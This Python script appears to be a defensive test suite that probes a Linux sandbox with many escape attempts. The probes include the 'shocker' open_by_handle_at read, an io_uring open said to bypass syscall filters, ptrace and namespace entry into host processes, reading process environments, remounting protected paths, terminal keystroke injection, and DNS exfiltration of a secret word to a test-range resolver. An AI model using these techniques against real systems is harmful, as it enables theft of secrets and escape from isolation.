"""Attempts to get out of a wall: `attempts.py YARD [NAME...]` makes each in a process of its own, and prints the names of
those that succeeded. The yard says, as JSON, where the secrets are and which process of the host has them."""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import socket
import struct
import sys

ATTEMPTS = {}
libc = ctypes.CDLL(None, use_errno=True)


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


def holds(path, secret):
    with open(path, "rb") as file:
        return secret.encode() in file.read(1 << 16)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


# Files of the host.


@attempt
def read_a_secret(yard):
    return holds(yard["secret"], yard["word"])


@attempt
def read_it_through_the_own_root(yard):
    return holds("/proc/self/root" + yard["secret"], yard["word"])


@attempt
def read_it_through_the_directory_of_a_thread(yard):
    return holds(f"/proc/self/task/{os.getpid()}/root" + yard["secret"], yard["word"])


@attempt
def read_it_with_dots(yard):
    return holds("/" + "../" * 40 + yard["secret"], yard["word"])


@attempt
def read_it_through_a_link_in_the_project(yard):
    os.symlink(yard["secret"], "link")
    try:
        return holds("link", yard["word"])
    finally:
        os.unlink("link")


@attempt
def read_it_by_a_hard_link(yard):
    os.link(yard["secret"], "hard")
    try:
        return holds("hard", yard["word"])
    finally:
        os.unlink("hard")


@attempt
def read_it_through_the_first_process(yard):
    return holds("/proc/1/root" + yard["secret"], yard["word"])


@attempt
def read_it_through_an_inherited_descriptor(yard):
    for number in range(3, 64):
        try:
            found = os.open(os.path.relpath(yard["secret"], "/"), os.O_RDONLY, dir_fd=number)
            return yard["word"].encode() in os.read(found, 1 << 16)
        except OSError:
            pass
    return False


@attempt
def read_it_by_its_handle(yard):
    # open_by_handle_at(2) passes over all paths: "shocker".
    handle = ctypes.create_string_buffer(struct.pack("IiQ", 8, 1, yard["inode"]))
    found = checked(libc.open_by_handle_at(os.open(".", os.O_RDONLY), handle, os.O_RDONLY))
    return yard["word"].encode() in os.read(found, 1 << 16)


@attempt
def read_it_by_io_uring(yard):
    # The kernel opens the file by itself, past every filter of system calls.
    params = ctypes.create_string_buffer(120)
    ring = checked(libc.syscall(425, 4, params))
    words = struct.unpack("30I", params.raw)
    (entries, places), submit, done = words[:2], words[10:20], words[20:30]
    rings = mmap.mmap(ring, max(submit[6] + 4 * entries, done[5] + 16 * places), offset=0)
    requests = mmap.mmap(ring, 64 * entries, offset=0x10000000)
    path = ctypes.create_string_buffer(yard["secret"].encode())
    requests[:64] = struct.pack("BBHiQQIIQ24x", 18, 0, 0, -100, 0, ctypes.addressof(path), 0, 0, 1)
    rings[submit[6] : submit[6] + 4] = struct.pack("I", 0)
    rings[submit[1] : submit[1] + 4] = struct.pack("I", 1)
    checked(libc.syscall(426, ring, 1, 1, 1, None, 0))
    found = struct.unpack_from("Qi", rings, done[5])[1]
    return found >= 0 and yard["word"].encode() in os.read(found, 1 << 16)


@attempt
def write_outside(yard):
    with open(yard["outside"] + "/written", "w") as file:
        file.write("x")
    return os.path.exists(yard["outside"] + "/written") and os.stat(yard["outside"]).st_ino == yard["outside_inode"]


@attempt
def write_to_the_system(yard):
    with open("/etc/written-by-a-wall", "w") as file:
        file.write("x")
    return True


@attempt
def write_to_a_file_of_the_system(yard):
    os.close(os.open("/etc/hostname", os.O_WRONLY))
    return True


@attempt
def change_the_mode_of_a_file_of_the_system(yard):
    os.chmod("/etc/hostname", 0o644)
    return True


@attempt
def change_the_mode_of_a_directory_outside(yard):
    os.chmod(yard["outside"], 0o755)
    return os.stat(yard["outside"]).st_ino == yard["outside_inode"]


@attempt
def know_that_a_secret_is_there(yard):
    return os.stat(yard["secret"]).st_ino == yard["inode"]


@attempt
def write_to_the_own_root(yard):
    os.mkdir("/made")
    return True


# What is hidden, and what is protected, in a project that may be written.


@attempt
def read_what_is_hidden(yard):
    return holds(".env", yard["word"])


@attempt
def read_what_is_hidden_by_a_hard_link(yard):
    os.link(".env", "linked")
    try:
        return holds("linked", yard["word"])
    finally:
        os.unlink("linked")


@attempt
def read_what_is_hidden_after_moving_it(yard):
    os.rename(".env", "moved")
    return holds("moved", yard["word"])


@attempt
def read_what_is_hidden_after_removing_what_hides_it(yard):
    os.unlink(".env")
    return holds(".env", yard["word"])


@attempt
def read_what_is_hidden_after_unmounting_it(yard):
    checked(libc.umount2(b".env", 2))
    return holds(".env", yard["word"])


@attempt
def list_a_hidden_directory(yard):
    return bool(os.listdir("secrets"))


@attempt
def read_in_a_hidden_directory(yard):
    return holds("secrets/key", yard["word"])


@attempt
def write_what_is_protected(yard):
    with open(".git/hooks/pre-commit", "w") as file:
        file.write("x")
    return True


@attempt
def replace_what_is_protected(yard):
    os.mkdir("hooks")
    try:
        os.rename("hooks", ".git/hooks")
    finally:
        if os.path.isdir("hooks"):
            os.rmdir("hooks")
    return True


@attempt
def move_the_parent_of_what_is_protected(yard):
    os.rename(".git", "git")
    os.rename("git", ".git")
    return True


@attempt
def make_what_is_protected_writable_by_mounting(yard):
    checked(libc.mount(None, b".git/hooks", None, 32 | 4096, None))  # MS_REMOUNT | MS_BIND
    return True


# Other processes.


@attempt
def see_a_process_of_the_host(yard):
    return holds(f"/proc/{yard['process']}/cmdline", "victim")


@attempt
def read_the_variables_of_a_process(yard):
    return holds(f"/proc/{yard['process']}/environ", yard["word"])


@attempt
def read_the_variables_of_the_first_process(yard):
    return holds("/proc/1/environ", yard["word"])


@attempt
def read_the_memory_of_the_first_process(yard):
    os.close(os.open("/proc/1/mem", os.O_RDONLY))
    return True


@attempt
def enter_the_directory_of_a_process(yard):
    os.chdir(f"/proc/{yard['process']}/cwd")
    return os.path.exists("id")


@attempt
def read_the_open_file_of_a_process(yard):
    return holds(f"/proc/{yard['process']}/fd/3", yard["word"])


@attempt
def trace_a_process(yard):
    checked(libc.ptrace(16, yard["process"], 0, 0))  # PTRACE_ATTACH
    return libc.ptrace(17, yard["process"], 0, 0) == 0


@attempt
def trace_the_first_process(yard):
    checked(libc.ptrace(0x4206, 1, 0, 0))  # PTRACE_SEIZE
    return True


@attempt
def signal_a_process(yard):
    os.kill(yard["process"], 0)
    return True


@attempt
def take_a_descriptor_of_a_process(yard):
    process = os.pidfd_open(yard["process"])
    found = checked(libc.syscall(438, process, 3, 0))
    return yard["word"].encode() in os.pread(found, 1 << 16, 0)


@attempt
def enter_the_namespaces_of_a_process(yard):
    namespace = os.open(f"/proc/{yard['process']}/ns/mnt", os.O_RDONLY)
    checked(libc.setns(namespace, 0))
    return holds(yard["secret"], yard["word"])


@attempt
def find_a_message_queue_of_the_host(yard):
    return checked(libc.msgget(yard["queue"], 0)) >= 0


@attempt
def lower_the_priority_number(yard):
    os.setpriority(os.PRIO_PROCESS, 0, -5)
    return True


# Privileges.


@attempt
def have_capabilities_for_mounts(yard):
    with open("/proc/self/status") as file:
        held = next(int(line.split()[1], 16) for line in file if line.startswith("CapBnd"))
    return bool(held >> 21 & 1)


@attempt
def mount_something(yard):
    checked(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
    return True


@attempt
def unmount_the_processes(yard):
    checked(libc.umount2(b"/proc/sys", 2))
    return True


@attempt
def change_the_root(yard):
    os.chroot("/proc/self/root/..")
    return holds(yard["secret"], yard["word"])


@attempt
def mount_in_another_namespace_of_users(yard):
    checked(libc.unshare(0x10000000 | 0x20000))  # CLONE_NEWUSER | CLONE_NEWNS
    # There it has all capabilities, but the mounts that it was given are locked together.
    for path in (b".env", b".git/hooks", b"/proc/sys", b"/"):
        if libc.umount2(path, 2) == 0:
            return True
        if libc.mount(None, path, None, 32 | 4096, None) == 0:
            return os.access(path, os.W_OK) and path != b".env"
    return False


@attempt
def make_a_device(yard):
    os.mknod("device", 0o600 | 0o060000, os.makedev(*yard["disk"]))
    os.close(os.open("device", os.O_RDONLY))
    return True


@attempt
def become_root_by_a_set_uid_program(yard):
    return os.spawnlp(os.P_WAIT, "./set-uid", "set-uid") == 7


@attempt
def change_a_setting_of_the_kernel(yard):
    with open("/proc/sys/kernel/domainname", "w") as file:
        file.write("wall")
    return True


@attempt
def press_a_magic_key(yard):
    os.close(os.open("/proc/sysrq-trigger", os.O_WRONLY))
    return True


@attempt
def read_the_memory_of_the_machine(yard):
    return any(os.path.exists(path) and os.open(path, os.O_RDONLY) for path in ("/dev/mem", "/dev/kmem", "/proc/kcore"))


@attempt
def see_a_disk(yard):
    return any(os.path.exists(path) for path in ("/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/loop-control", "/dev/fuse"))


def is_filtered(number):
    """A device that is no terminal has another answer, if the call gets that far."""
    try:
        fcntl.ioctl(os.open("/dev/null", os.O_RDWR), number, b"x")
    except OSError as error:
        return error.errno == errno.EPERM
    return False


@attempt
def type_into_the_terminal(yard):
    return not is_filtered(0x5412)  # TIOCSTI


@attempt
def type_into_the_console(yard):
    return not is_filtered(0x541C)  # TIOCLINUX


# The network.


def talks(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as peer:
        peer.settimeout(2)
        peer.connect(address)
        if kind == socket.SOCK_DGRAM:
            peer.send(b"x")
        return yard_word(peer)


def yard_word(peer):
    return WORD.encode() in peer.recv(1 << 10)


@attempt
def reach_a_server_of_the_host(yard):
    return talks(socket.AF_INET, ("127.0.0.1", yard["port"]))


@attempt
def reach_it_by_ipv6(yard):
    return talks(socket.AF_INET6, ("::1", yard["port6"]))


@attempt
def reach_it_by_udp(yard):
    return talks(socket.AF_INET, ("127.0.0.1", yard["udp"]), socket.SOCK_DGRAM)


@attempt
def reach_an_abstract_socket(yard):
    return talks(socket.AF_UNIX, "\0" + yard["abstract"])


@attempt
def reach_a_socket_in_a_directory(yard):
    return talks(socket.AF_UNIX, yard["socket"])


@attempt
def reach_a_socket_by_a_pair(yard):
    own, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    return own.sendto(b"x", yard["datagrams"]) == 1


@attempt
def see_an_interface_of_the_host(yard):
    return any(name != "lo" for _, name in socket.if_nameindex())


@attempt
def ask_a_name_server(yard):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.sendto(b"x", ("192.0.2.1", 53))
    return True


@attempt
def have_a_question_passed_on(yard):
    # A name server that asks others passes on what is in a name.
    labels = b"".join(bytes([len(label)]) + label for label in (yard["word"].encode(), b"example", b"org"))
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.settimeout(5)
        peer.sendto(b"\0\7\1\0\0\1\0\0\0\0\0\0" + labels + b"\0\0\20\0\1", ("198.18.0.1", 53))
        # "No such name" is the server's own answer.
        return peer.recv(1500)[3] & 15 != 3


@attempt
def send_raw_packets(yard):
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    return True


@attempt
def bind_to_an_interface(yard):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as peer:
        peer.setsockopt(socket.SOL_SOCKET, 25, yard["interface"].encode())  # SO_BINDTODEVICE
    return True


def succeeds(name, yard):
    """In a process of its own, so that no attempt spoils the next."""
    child = os.fork()
    if child == 0:
        sys.stderr = open(os.devnull, "w")
        try:
            os._exit(7 if ATTEMPTS[name](yard) else 0)
        except BaseException:
            os._exit(1)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7


def is_landlocked():
    """Nothing else keeps a process from listing the root directory, and it cannot be taken off."""
    try:
        os.listdir("/")
    except PermissionError:
        return "NoNewPrivs:\t1\n" in open("/proc/self/status").readlines()
    return False


if __name__ == "__main__":
    place = json.loads(sys.argv[1])
    WORD = place["word"]
    # Many would do harm to a host.
    if len(sys.argv) == 2 and not os.path.islink("/inside") and not is_landlocked():
        sys.exit("this is no wall")
    for wanted in sys.argv[2:] or ATTEMPTS:
        if succeeds(wanted, place):
            print(wanted)
    print("tried", len(sys.argv[2:] or ATTEMPTS))
